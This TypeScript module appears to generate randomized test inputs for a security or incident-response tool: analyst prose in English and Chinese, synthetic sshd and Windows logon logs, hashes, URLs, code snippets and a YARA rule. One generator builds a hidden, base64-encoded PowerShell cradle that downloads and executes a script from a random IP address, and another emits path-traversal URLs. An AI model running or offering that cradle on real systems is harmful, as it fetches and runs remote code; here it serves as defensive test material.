import type { SeededRandom } from '../../testing/seeded-random.ts'

const HEX = '0123456789abcdef'
const LOWER = 'abcdefghijklmnopqrstuvwxyz'
const ALNUM = `${LOWER}${LOWER.toUpperCase()}0123456789`
const EMOJI = ['🧯', '🔥', '🚨', '🔐', '🛡', '🇨🇳', '🧑🏽', '🫠', '🪪', '⚠', '✅', '➡']

const ENGLISH = [
  'Isolate the host from the network before you reset the account; otherwise the attacker notices and destroys what is left of the evidence.',
  'The beacon returns every sixty seconds with a jitter of a tenth, which is how the proxy logs gave it away at last.',
  'Lateral movement went by scheduled tasks and remote services, never by an exploit, so the vulnerability scanner has nothing to say about it.',
  'Ransomware operators exfiltrated approximately 40 gigabytes through a misconfigured object-storage bucket, undetected for eleven days.',
  "We don't know yet whether m.chen's credentials were phished or sprayed; the VPN's conditional-access policy wasn't enforced that night.",
  'Recommendation: quarantine, acquire memory, preserve volatile artefacts, and only then begin eradication.',
]
const CHINESE = [
  '攻击者首先通过钓鱼邮件获取了财务部门员工的凭据，随后利用远程桌面横向移动到域控服务器，并在凌晨外传了大量压缩文件。',
  '建议立即隔离受影响的主机，重置相关账号的密码，并检查过去七天内所有来自该地址段的登录记录。',
  '经研判，该告警并非误报：进程树显示办公软件启动了脚本解释器，后者又下载并执行了未签名的载荷。',
  '目前尚不清楚横向移动的初始入口，需要进一步比对防火墙、终端检测与邮件网关三处日志的时间线。',
  '请值班工程师在交接前确认：封禁策略已下发、取证镜像已校验哈希、业务方已知悉影响范围。',
]
const CODE = [
  'export async function send(ctx: Context, { id, text }: Input): Promise<Sent> {\n  if (!id || text === "") throw new Error(`bad id`)\n  return ctx.db.query("SELECT * FROM t WHERE a = ? AND b <> ?", [id, text])\n}',
  "def parse(line):\n    m = re.match(r'^(\\d{1,3}(?:\\.\\d{1,3}){3})\\s+-\\s+(\\S+)', line)\n    return {'ip': m[1], 'user': m[2]} if m else None\n",
  '#include <windows.h>\nint WINAPI WinMain(HINSTANCE h, HINSTANCE p, LPSTR c, int n) {\n\tHANDLE t = CreateThread(NULL, 0, run, NULL, 0, NULL);\n\treturn WaitForSingleObject(t, INFINITE);\n}',
  'rule Beacon {\n  strings:\n    $a = { 4D 5A 90 00 ?? ?? E8 [4-6] 6A 40 }\n    $b = "ReflectiveLoader" ascii wide nocase\n  condition:\n    uint16(0) == 0x5A4D and all of them\n}',
  'cat /var/log/auth.log | awk \'/Failed/{print $(NF-3)}\' | sort | uniq -c | sort -rn | head -20 >&2 && echo "done: $?"',
]

const padNumber = (value: number, width = 2): string => String(value).padStart(width, '0')
const drawAddress = (chance: SeededRandom): string => Array.from({ length: 4 }, () => chance.below(256)).join('.')
const drawClock = (chance: SeededRandom): string =>
  `${padNumber(chance.below(24))}:${padNumber(chance.below(60))}:${padNumber(chance.below(60))}`
const createLines = (count: number, line: () => string): string => Array.from({ length: count }, line).join('\n')
const drawUuid = (chance: SeededRandom): string => [8, 4, 4, 4, 12].map((length) => chance.text(length, HEX)).join('-')
const drawBytes = (chance: SeededRandom, length: number): Uint8Array =>
  Uint8Array.from({ length }, () => chance.below(256))

/** What questions, events and evidence are made of, as much as a few paragraphs of each. */
export const TEXTS: Record<string, (chance: SeededRandom) => string> = {
  english: (chance) => createLines(4, () => chance.pick(ENGLISH)),
  chinese: (chance) => createLines(4, () => chance.pick(CHINESE)),
  logs: (chance) =>
    createLines(8, () =>
      chance.pick([
        `2026-11-22T${drawClock(chance)}.${padNumber(chance.below(1_000), 3)}Z FIN-WS-${padNumber(chance.below(99), 3)} sshd[${chance.below(65_535)}]: Failed password for invalid user admin from ${drawAddress(chance)} port ${chance.below(65_535)} ssh2`,
        `${drawAddress(chance)} - - [22/Nov/2026:${drawClock(chance)} +0000] "GET /api/v1/items?id=${chance.below(9_999)} HTTP/1.1" 404 ${chance.below(99_999)} "-" "curl/8.5.0"`,
        `EventID=4625 LogonType=${chance.below(11)} TargetUserName=svc_backup IpAddress=${drawAddress(chance)} Status=0xC000006D`,
      ]),
    ),
  'mixed logs': (chance) =>
    createLines(6, () =>
      chance.pick([
        `2026-11-22 ${drawClock(chance)} [警告] 主机 FIN-WS-${padNumber(chance.below(99), 3)} 登录失败 user=zhangsan src=${drawAddress(chance)}:${chance.below(65_535)} 原因=密码错误`,
        `【${chance.pick(['高危', '中危'])}】${drawAddress(chance)} 访问 https://cdn-update.example/a.php?id=${chance.below(9_999)}，规则 ET-${chance.below(99_999)} 命中 ${chance.below(99)} 次`,
      ]),
    ),
  json: (chance) =>
    createLines(3, () =>
      JSON.stringify(
        {
          level: 'warn',
          time: 1_763_800_000_000 + chance.below(1e9),
          request: {
            id: drawUuid(chance),
            method: 'GET',
            url: '/api/v1/items',
            headers: { 'user-agent': 'curl/8.5.0' },
          },
          bytes: [chance.below(999), chance.below(999)],
          user: null,
          ok: chance.next() > 0.5,
        },
        null,
        chance.pick([0, 2]),
      ),
    ),
  hashes: (chance) =>
    createLines(8, () => chance.text(chance.pick([32, 40, 64]), chance.pick([HEX, HEX.toUpperCase()]))),
  identifiers: (chance) => createLines(8, () => drawUuid(chance)),
  base64: (chance) => Buffer.from(drawBytes(chance, 300)).toString(chance.pick(['base64', 'base64url'])),
  'an encoded command': (chance) =>
    `powershell -nop -w hidden -enc ${Buffer.from(`IEX (New-Object Net.WebClient).DownloadString("http://${drawAddress(chance)}/${chance.text(6, LOWER)}.ps1")`, 'utf16le').toString('base64')}`,
  tokens: (chance) => createLines(6, () => chance.text(40, ALNUM)),
  'a dump': (chance) =>
    createLines(
      6,
      () =>
        `${padNumber(chance.below(9_999), 4)}: ${Array.from({ length: 8 }, () => chance.text(4, HEX)).join(' ')}  ................`,
    ),
  addresses: (chance) => Array.from({ length: 20 }, () => drawAddress(chance)).join(chance.pick(['\n', ', ', ' '])),
  domains: (chance) =>
    createLines(
      10,
      () => `${chance.text(6 + chance.below(12), LOWER)}.${chance.pick(['com', 'example', 'net', 'top', 'ru'])}`,
    ),
  urls: (chance) =>
    createLines(
      4,
      () =>
        `https://${chance.text(8, LOWER)}.example/%2e%2e%2f${chance.text(6, ALNUM)}?q=%E6%94%BB%E5%87%BB&t=${chance.below(1e9)}`,
    ),
  paths: (chance) =>
    createLines(
      4,
      () =>
        `C:\\Users\\m.chen\\AppData\\Local\\Temp\\~DF${chance.text(4, HEX.toUpperCase())}.tmp HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run`,
    ),
  code: (chance) => createLines(2, () => chance.pick(CODE)),
  emoji: (chance) => Array.from({ length: 30 }, () => chance.pick(EMOJI)).join(chance.pick(['', ' '])),
  digits: (chance) => chance.text(200, '0123456789'),
  signs: (chance) => chance.text(200, '!@#$%^&*()_+-=[]{}|;:\'",.<>/?`~'),
}
